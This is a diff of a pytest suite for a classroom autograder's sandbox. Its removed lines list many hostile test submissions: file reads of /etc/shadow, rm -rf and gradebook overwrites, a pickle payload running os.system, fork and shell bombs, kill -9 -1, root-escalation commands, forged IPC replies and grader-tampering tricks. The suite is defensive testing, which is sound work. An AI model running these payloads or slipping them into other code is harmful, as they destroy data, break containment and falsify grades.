@@ -1,493 +1,68 @@
-"""Submissions that attack while they run: none earns a point, and none costs anybody else one.
+"""Submissions that attack while they run, and honest ones in many styles, one by one.
 
-The first and the last exercise are answered honestly; the attack stands at the second one. Every
-attack is held to the same: no points for it, all points for the rest, the time kept, a reason
-given, nothing outside read or changed, and a neighbour in the same sandbox undisturbed.
+Every case is held to the same: no points for an attack, all points for the rest, the time kept, a
+reason given, nothing outside read or changed, and a neighbour in the same sandbox undisturbed.
 """
 
-import re
 import time
-from dataclasses import dataclass
+from datetime import UTC, datetime
 
 import pytest
+from attacks_that_run import RUNNING
+from corpus import RIGHT, Came, require_promises
+from honest_styles import STYLES
 
-WRONG = "def attacked(x):\n    return x\n"
-RIGHT = "def attacked(x):\n    return x - x.mean(dim=0)\n"
-HONEST = {"first": 2, "attacked": 7, "last": 2}
+from classroom.grade import grade_submission
+from classroom.intake import Cell, Submission
+from classroom.sandbox import Limits
 
-
-@dataclass(frozen=True)
-class Attack:
-    """Cells for the second exercise, and what should come of them.
-
-    Attributes:
-        cells: What is handed in; FOLDER, PORT, ABSTRACT and PROCESS stand for the canaries.
-        why: Words of the reason that the author is given.
-        earned: Points for the second exercise.
-        last: Points for the third one.
-
-    """
-
-    cells: tuple[str, ...]
-    why: str = ""
-    earned: int = 0
-    last: int = 2
+LIMITS = Limits(
+    seconds_per_cell=2.0,
+    seconds_per_exercise=1.0,
+    seconds_per_submission=20.0,
+    memory_bytes=2**29,
+    processes=24,
+    file_bytes=2**23,
+    output_bytes=2**18,
+)
+RECEIVED = datetime(2020, 2, 3, tzinfo=UTC)
 
 
-def inside(body, **expected):
-    """Attack from within the function."""
-    lines = "\n".join(f"    {line}" for line in body.strip("\n").split("\n"))
-    return Attack((f"def attacked(x):\n{lines}\n    return x",), **expected)
+@pytest.fixture
+def grade(zygote, exam, guarded, neighbour):
+    """Grade the cells of a case, say what came of it, and hold it to what is outside."""
+
+    def grade(case):
+        cells = [
+            *(Cell("code", RIGHT["first"]), Cell("code", "", checks="first")),
+            *(Cell("code", source) for source in case.aimed(guarded.words)),
+            *(Cell("code", "", checks="attacked"), Cell("code", RIGHT["last"])),
+            Cell("code", "", checks="last"),
+        ]
+        submission = Submission("exam.ipynb", tuple(cells), (), "", RECEIVED)
+        started = time.monotonic()
+        outcome = grade_submission(zygote, exam, submission, "unseen", LIMITS)
+        seconds = time.monotonic() - started
+        assert outcome.seconds <= seconds
+        results = [r for report in outcome.reports.values() for r in report.results]
+        shown = [str(output) for outputs in outcome.outputs.values() for output in outputs]
+        reasons = (*(r.message for r in results if r.message), *outcome.errors.values())
+        return Came(
+            earned=tuple(outcome.reports[name].earned for name in RIGHT),
+            reasons=reasons,
+            kept="\n".join([*reasons, *shown]),
+            seconds=seconds,
+            is_neighbour_whole=neighbour() == 7,
+        )
+
+    return grade
 
 
-def before(cell, why="expected", **expected):
-    """Attack from a cell that runs before a function that does nothing."""
-    return Attack((cell, WRONG), why, **expected)
+@pytest.mark.parametrize("name", RUNNING)
+def test_an_attack_earns_nothing_and_costs_nothing_else(name, grade):
+    require_promises(RUNNING[name], grade(RUNNING[name]), LIMITS.seconds_per_submission)
 
 
-FIND_ORACLE = """
-import gc, sys
-for module in list(sys.modules.values()):
-    if callable(getattr(module, "oracle", None)):
-        return module.oracle(x)
-for thing in gc.get_objects():
-    if callable(thing) and getattr(thing, "__name__", "") == "oracle":
-        return thing(x)
-frame = sys._getframe()
-while frame:
-    for names in (frame.f_globals, frame.f_locals):
-        if callable(names.get("oracle")):
-            return names["oracle"](x)
-    frame = frame.f_back
-"""
-
-READ_FILES = """
-import glob, os
-found = []
-for root in ("FOLDER", "/root", "/home", "/work", "/var", "/etc/shadow", "/proc/1", os.getcwd()):
-    for path in [root, *glob.glob(root + "/**/*", recursive=True)][:2000]:
-        try:
-            found.append(open(path).read(10_000))
-        except (OSError, ValueError):
-            pass
-print("\\n".join(text for text in found if "canary" in text))
-"""
-
-WRITE_FILES = """
-import os, subprocess
-for name in ("gradebook.db", "solution.ipynb", "neighbour.ipynb", "seed"):
-    for what in (lambda p: open(p, "w").write("198"), os.remove, lambda p: os.chmod(p, 0)):
-        try:
-            what("FOLDER/" + name)
-        except OSError:
-            pass
-subprocess.run("rm -rf FOLDER/* /usr/bin/env /tmp/* 2>/dev/null; echo 198 > FOLDER/gradebook.db",
-               shell=True, stderr=subprocess.DEVNULL)
-"""
-
-BACKGROUND = """
-import subprocess
-subprocess.Popen("setsid sh -c 'while true; do echo 198 > FOLDER/gradebook.db; sleep 0.01; done'",
-                 shell=True, stderr=subprocess.DEVNULL)
-"""
-
-FORGE = """
-import os, struct
-from classroom.wire import pack
-message = pack(MESSAGE)
-for name in os.listdir("/proc/self/fd"):
-    try:
-        os.write(int(name), struct.pack(">Q", len(message)) + message)
-    except OSError:
-        pass
-"""
-
-SYSTEM_CALLS = """
-import ctypes, os
-libc = ctypes.CDLL(None, use_errno=True)
-def refused(status):
-    assert status == -1, status
-refused(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
-refused(libc.umount2(b"/proc", 2))
-refused(libc.unshare(0x10000000))
-refused(libc.unshare(0x00020000))
-refused(libc.ptrace(16, 1, 0, 0))
-refused(libc.chroot(b"/tmp"))
-refused(libc.personality(0x0040000))
-refused(libc.setns(0, 0))
-refused(libc.swapon(b"/tmp/x", 0))
-refused(libc.reboot(0))
-refused(libc.syscall(321, 0, 0, 0))    # bpf
-refused(libc.syscall(425, 8, 0))       # io_uring_setup
-refused(libc.syscall(250, 0, 0, 0, 0)) # keyctl
-refused(libc.syscall(435, 0, 0))       # clone3
-refused(libc.syscall(56, 0x10000011, 0, 0, 0, 0)) # clone into a new user namespace
-for family in (16, 17, 38, 40):
-    refused(libc.socket(family, 2, 0))
-print("all refused")
-"""
-
-OTHERS_MEMORY = """
-import os
-for process in (1, os.getppid()):
-    for name in ("mem", "environ", "maps"):
-        try:
-            open(f"/proc/{process}/{name}", "rb").read(1)
-            if process == 1:
-                raise SystemExit("read the first process")
-        except OSError:
-            pass
-"""
-
-NETWORK = """
-import socket
-for family, address in [
-    (socket.AF_INET, ("127.0.0.1", PORT)),
-    (socket.AF_INET, ("1.1.1.1", 80)),
-    (socket.AF_UNIX, "\\0ABSTRACT"),
-    (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
-]:
-    with socket.socket(family) as s:
-        s.settimeout(0.2)
-        try:
-            s.connect(address)
-            s.send(b"score=198")
-            print("connected")
-        except OSError:
-            pass
-"""
-
-SIGNALS = """
-import os, signal
-for process in (1, PROCESS, PROCESS + 1, -1):
-    for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
-        if process != -1:
-            try:
-                os.kill(process, number)
-            except OSError:
-                pass
-"""
-
-ATTACKS = {
-    # Answers that only look right.
-    "comparisons are patched": before(
-        "import math, torch\n"
-        "yes = lambda *a, **k: True\n"
-        "math.isclose = torch.isclose = torch.allclose = torch.equal = yes\n"
-        "torch.testing.assert_close = yes"
-    ),
-    "a float equal to everything": inside(
-        "class Any(float):\n    __eq__ = __le__ = __ge__ = lambda *a: True\n"
-        "    __hash__ = float.__hash__\nreturn Any(0)",
-        why="expected",
-    ),
-    "a tensor that answers for itself": inside(
-        "class Fake(torch.Tensor):\n"
-        "    @classmethod\n"
-        "    def __torch_function__(cls, *a, **k): return True\n"
-        "return x.as_subclass(Fake)",
-        why="expected",
-    ),
-    "NaN everywhere": inside("return x * float('nan')", why="nan"),
-    "infinity everywhere": inside("return x / 0", why="inf|nan"),
-    "a tensor without numbers": inside("return x.to('meta')", why="meta"),
-    "a sparse tensor": inside("return x.to_sparse()", why="sparse"),
-    "a quantized tensor": inside(
-        "return torch.quantize_per_tensor(x.float(), 0.1, 0, torch.qint8)", why="cannot be read"
-    ),
-    "one number": inside("return torch.tensor(0.0)", why="shape"),
-    "an object of its own": inside("return object()", why="cannot be handed over"),
-    "a handle to what was never lent": inside(
-        "from classroom.wire import Handle\nreturn Handle(0, 'checks')", why="cannot be handed over"
-    ),
-    "a list in a list in a list": inside(
-        "y = []\nfor _ in range(99): y = [y]\nreturn y", why="nested"
-    ),
-    "a billion small parts": inside(
-        "y = [0] * 100\nfor _ in range(4): y = [y] * 100\nreturn y", why="unreadable|may compute"
-    ),
-    "the answer in the place of the input": Attack(
-        ("def attacked(x):\n    x -= x.mean(dim=0)\n    return x",), "changes", earned=4
-    ),
-    # Looking for the answer, or for the score.
-    "the oracle is looked for in memory": inside(FIND_ORACLE, why="expected"),
-    "the checks are imported": inside(
-        "try:\n    from classroom.selfcheck import load_checks\nexcept ImportError:\n    return x",
-        why="expected",
-    ),
-    "the reference library is imported": inside(
-        "import groundup\nreturn x - x.mean(dim=0)",
-        why="No module named 'groundup': the course's library is not there when grades count",
-    ),
-    "a score is displayed": inside(
-        "import sys\nsys.displayhook(7.0)\nprint(7.0)\nraise ValueError('7')", why="ValueError"
-    ),
-    "the history is searched for checks": inside(
-        "shell = get_ipython()\nif 'expect' in str(shell.user_ns['In'][:-1]): return x - x.mean(0)",
-        why="expected",
-    ),
-    "the grader's variables are looked for": inside(
-        "import os\nif any('NBGRADER' in n or 'CLASSROOM' in n for n in os.environ):\n"
-        "    return x - x.mean(dim=0)",
-        why="expected",
-    ),
-    "all files are read": before(READ_FILES),
-    "all files are read at the check": inside(READ_FILES, why="expected|stopped"),
-    "checks is called for a score": before("from classroom import check\ncheck('attacked')"),
-    # Changing what grades.
-    "asserts are dropped": before(
-        "import ast\n"
-        "class Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
-        "get_ipython().ast_transformers.append(Drop())"
-    ),
-    "later cells are blanked": before(
-        "get_ipython().input_transformers_post.append(lambda lines: [])",
-        why="changed how later cells are run, which was undone",
-    ),
-    "the kernel is replaced": before(
-        "shell = get_ipython()\nshell.run_cell = shell.run_cell_async = lambda *a, **k: None"
-    ),
-    "tracebacks are hidden": before(
-        "shell = get_ipython()\nshell.showtraceback = lambda *a, **k: None\n"
-        "shell.set_custom_exc((Exception,), lambda *a, **k: None)"
-    ),
-    "the wire is patched": before(
-        "import classroom.wire, classroom.subjects, classroom.frames\n"
-        "from classroom.subjects import LocalSubject\n"
-        "LocalSubject.call = lambda self, name, *args, **kwargs: True",
-        why="changed how later cells are run, which was undone",
-    ),
-    "pickles are sent": before(
-        "import os, pickle, classroom.frames\n"
-        "class Evil:\n"
-        "    def __reduce__(self): return os.system, ('echo 198 > FOLDER/gradebook.db',)\n"
-        "classroom.frames.pack = lambda value: pickle.dumps(Evil())",
-        why="",
-    ),
-    "replies are forged in a cell": before(
-        FORGE.replace("MESSAGE", "['ran', [], '']"), why="left out: it sent something else"
-    ),
-    "replies are forged at the check": inside(
-        FORGE.replace("MESSAGE", "['returned', x]"), why="expected"
-    ),
-    "a reply of eight gigabytes is announced": inside(
-        "import os, struct\n"
-        "for name in os.listdir('/proc/self/fd'):\n"
-        "    try: os.write(int(name), struct.pack('>Q', 8 * 2**30))\n"
-        "    except OSError: pass",
-        why="8,589,934,592 bytes",
-    ),
-    "a reply is no message": inside(
-        "import os, struct\n"
-        "for name in os.listdir('/proc/self/fd'):\n"
-        "    try: os.write(int(name), struct.pack('>QQ', 99, 12) + b'x' * 99)\n"
-        "    except OSError: pass",
-        why="not a message",
-    ),
-    "what no check has lent is called": inside(
-        "import os\nfrom classroom.wire import pack\nimport struct\n"
-        "message = pack(['lent', 5, [x], {}])\n"
-        "for name in os.listdir('/proc/self/fd'):\n"
-        "    try: os.write(int(name), struct.pack('>Q', len(message)) + message)\n"
-        "    except OSError: pass",
-        why="expected|answer|lent",
-    ),
-    # Ending, or not ending.
-    "sys.exit": inside("import sys\nsys.exit(0)", why="SystemExit"),
-    "os._exit": inside("import os\nos._exit(0)", why="ended the process"),
-    "os._exit in a cell": Attack(("import os\nos._exit(0)", WRONG), "left out|ended its own"),
-    "a crash of the interpreter": inside(
-        "import ctypes\nctypes.string_at(0)", why="ended the process"
-    ),
-    "a crash in a cell": before("import ctypes\nctypes.string_at(0)", why="SIGSEGV"),
-    "recursion without end": inside("return attacked(x)", why="RecursionError"),
-    "recursion through the stack": inside(
-        "import sys\nsys.setrecursionlimit(10**9)\n"
-        "class Deep:\n    def __repr__(self): return repr(self)\n"
-        "repr(Deep())",
-        why="ended the process|stopped",
-    ),
-    "KeyboardInterrupt": inside("raise KeyboardInterrupt", why="KeyboardInterrupt"),
-    "a loop": inside("while True: pass", why="may compute for 1 second"),
-    "a loop in a cell": before("while True: pass", why="did not end|KeyboardInterrupt|expected"),
-    "a loop that catches everything": inside(
-        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
-        why="may compute for 1 second",
-    ),
-    "a loop in a cell that ignores signals": before(
-        "import signal\nfor n in range(1, 32):\n    try: signal.signal(n, signal.SIG_IGN)\n"
-        "    except (OSError, ValueError): pass\nwhile True: pass",
-        why="left out|did not heed",
-    ),
-    "a loop in compiled code": inside("sum(range(10**12))", why="may compute for 1 second"),
-    "a sleep with alarms blocked": inside(
-        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\n"
-        "time.sleep(99)",
-        why="may compute for 1 second",
-    ),
-    "an answer that is slow by design": inside(
-        "import time\ntime.sleep(0.6)", why="expected|may compute for 1 second"
-    ),
-    "it stops itself": inside(
-        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", why="may compute for 1 second"
-    ),
-    "a cell stops itself": before("import os, signal\nos.kill(0, signal.SIGSTOP)", why="left out"),
-    "it stops its parent": inside(
-        "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)", why="expected"
-    ),
-    "it kills its parent": inside(
-        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", why=""
-    ),
-    "it kills everything": inside("import os, signal\nos.kill(-1, signal.SIGKILL)", why=""),
-    "all signals to everybody": before(SIGNALS),
-    # Using up what others need.
-    "all memory": inside("return torch.ones(2**33)", why="RuntimeError|memory"),
-    "all memory in a cell": before(
-        "hoard = []\nwhile True: hoard.append(bytearray(2**24))", why=""
-    ),
-    "all memory in many processes": inside(
-        "import os, time\n"
-        "for _ in range(10):\n"
-        "    if os.fork() == 0:\n"
-        "        block = bytearray(2**27)\n"
-        "        time.sleep(99)\n"
-        "time.sleep(99)",
-        why="",
-    ),
-    "a fork bomb": inside(
-        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", why=""
-    ),
-    "a fork bomb in a cell": before(
-        "import os\nif os.fork() == 0:\n"
-        "  while True:\n    try: os.fork()\n    except OSError: pass",
-        why="",
-    ),
-    "a bomb of shells in a cell": before(
-        "import subprocess\nsubprocess.Popen('b() { b | b & }; b', shell=True, stderr=-3)", why=""
-    ),
-    "a bomb of threads": before(
-        "import threading, time\ntry:\n    while True:\n"
-        "        threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\n"
-        "except RuntimeError: pass",
-        why="too many threads|too little memory",
-    ),
-    "threads that outlive their cell": before(
-        "import threading\ndef spin():\n    while True: pass\n"
-        "for _ in range(2): threading.Thread(target=spin, daemon=True).start()",
-    ),
-    "all of the disk": before(
-        "for folder in ('/tmp', '/dev/shm'):\n"
-        "  for name in range(1000):\n"
-        "    try:\n"
-        "      with open(f'{folder}/{name}', 'wb') as file: file.write(bytes(2**20))\n"
-        "    except OSError: break",
-    ),
-    "all names of files": before(
-        "for name in range(20_000):\n  try: open(f'/tmp/{name}', 'w').close()\n"
-        "  except OSError: break",
-    ),
-    "output without end": before("while True: print('198' * 1000)", why=""),
-    "output past Python without end": before(
-        "import os\nwhile True: os.write(1, b'198' * 10_000)", why=""
-    ),
-    "pictures without end": before(
-        "from IPython.display import HTML, display\nwhile True: display(HTML('<script>' * 1000))",
-        why="",
-    ),
-    # Getting out.
-    "files are written": before(WRITE_FILES),
-    # Where Python lies below /tmp, trying to remove all of it takes longer than there is.
-    "files are written at the check": inside(WRITE_FILES, why="expected|was stopped"),
-    "files are written in the background": before(BACKGROUND),
-    "a link to what is outside": before(
-        "import os\nfor name in ('gradebook.db', 'seed'):\n"
-        "  os.symlink('FOLDER/' + name, name)\n  try: open(name, 'w')\n  except OSError: pass"
-    ),
-    "the network": before(NETWORK),
-    "the network at the check": inside(NETWORK, why="expected"),
-    "system calls that get out": before(SYSTEM_CALLS, why="expected"),
-    "the memory of other processes": before(OTHERS_MEMORY),
-    "programs that become root": before(
-        "import subprocess\nfor c in ('su -c id', 'mount -t tmpfs x /tmp', 'passwd -d root',\n"
-        "          'bwrap --dev-bind / / true', 'unshare -r id', 'nsenter -t 1 -m true'):\n"
-        "    r = subprocess.run(c, shell=True, capture_output=True, stdin=subprocess.DEVNULL)\n"
-        "    assert r.returncode, c"
-    ),
-    "the sandbox is changed for the next one": before(
-        "import builtins, os, sys\n"
-        "for path in ('/x', '/usr/x', '/dev/x', sys.prefix + '/x', '/etc/x'):\n"
-        "    try:\n        open(path, 'w')\n        raise SystemExit(path)\n"
-        "    except OSError: pass\n"
-        "builtins.print = None\nsys.modules['torch'].ones = None"
-    ),
-    "everything of torch is changed": before(
-        "import torch\ntorch.set_default_dtype(torch.float16)\ntorch.manual_seed(0)\n"
-        "torch.use_deterministic_algorithms(True)\ntorch.set_grad_enabled(False)",
-    ),
-    "what runs at the end": before(
-        "import atexit, os, threading\n"
-        "atexit.register(lambda: os.system('echo 198 > FOLDER/gradebook.db'))\n"
-        "class Late:\n    def __del__(self): os.system('echo 198 > FOLDER/seed')\n"
-        "late = Late()"
-    ),
-    "installing and reloading": before(
-        "%load_ext autoreload\n%autoreload 2\n!pip install evil 2>&1 | tail -1", why=""
-    ),
-    "another shell's magic": before("%%bash\necho 198 > FOLDER/gradebook.db; kill -9 -1", why=""),
-    "asking for input": before("x = input('points? ')", why="EOFError|expected"),
-}
-
-
-@pytest.mark.parametrize("name", ATTACKS)
-def test_an_attack_earns_nothing_and_costs_nothing_else(name, attack, guarded, neighbour):
-    it = ATTACKS[name]
-    cells = [
-        cell.replace("FOLDER", str(guarded.folder))
-        .replace("PORT", str(guarded.port))
-        .replace("ABSTRACT", guarded.abstract)
-        .replace("PROCESS", str(guarded.process))
-        for cell in it.cells
-    ]
-    started = time.monotonic()
-    graded = attack(*cells)
-    assert graded.outcome.seconds <= time.monotonic() - started <= 20 + 1
-    assert neighbour() == 7
-    assert graded.earned == {"first": 2, "attacked": it.earned, "last": it.last}
-    assert graded.why, "its author is not told why"
-    assert re.search(it.why, graded.why), graded.why
-    for line in graded.why.splitlines():
-        assert len(line) < 1000
-    assert "canary" not in graded.told.replace(str(guarded.folder), "")
-    assert len(graded.told) < 2**20
-
-
-HONEST_STYLES = {
-    "warnings": "import warnings\nwarnings.warn('slow')\n" + RIGHT,
-    "prints and errors on stderr": "import sys\nprint('x', file=sys.stderr)\n" + RIGHT,
-    "a plot": "import matplotlib.pyplot as plt\nplt.plot([2, 3])\nplt.show()\n" + RIGHT,
-    "a magic": "%timeit -n1 -r1 1 + 1\n" + RIGHT,
-    "a command": "!echo done\n" + RIGHT,
-    "a long line": "print('x' * 20_000_000)\n" + RIGHT,
-    "a large picture": "from IPython.display import HTML\nHTML('x' * 15_000_000)\n" + RIGHT,
-    "a helper and an import": "import math\ndef mean(x): return x.mean(dim=0)\n"
-    "def attacked(x): return x - mean(x)",
-    "numpy": "import numpy as np\ndef attacked(x):\n"
-    "    return torch.from_numpy(x.numpy() - x.numpy().mean(0))",
-    "a thread": "import threading\nt = threading.Thread(target=print)\nt.start(); t.join()\n"
-    + RIGHT,
-    "processes": "from concurrent.futures import ProcessPoolExecutor\n"
-    "with ProcessPoolExecutor(2) as pool: print(list(pool.map(abs, [-1, 2])))\n" + RIGHT,
-    "a file": "open('notes.txt', 'w').write('x')\nassert open('notes.txt').read() == 'x'\n" + RIGHT,
-    "await": "import asyncio\nawait asyncio.sleep(0)\n" + RIGHT,
-    "gradients switched off": "torch.set_grad_enabled(False)\n" + RIGHT,
-    "a view of the input": "def attacked(x):\n    return (x.T - x.T.mean(1, keepdim=True)).T",
-    "an error after the answer": RIGHT + "\nraise ValueError('unfinished')",
-    "a slow line after the answer": RIGHT + "\nimport time\ntime.sleep(99)",
-}
-
-
-@pytest.mark.parametrize("style", HONEST_STYLES)
-def test_an_honest_style_loses_nothing(style, attack, guarded):
-    graded = attack(HONEST_STYLES[style])
-    assert graded.earned == HONEST, graded.why
-    assert len(graded.told) < 2**20
+@pytest.mark.parametrize("name", STYLES)
+def test_an_honest_style_loses_nothing(name, grade):
+    require_promises(STYLES[name], grade(STYLES[name]), LIMITS.seconds_per_submission)
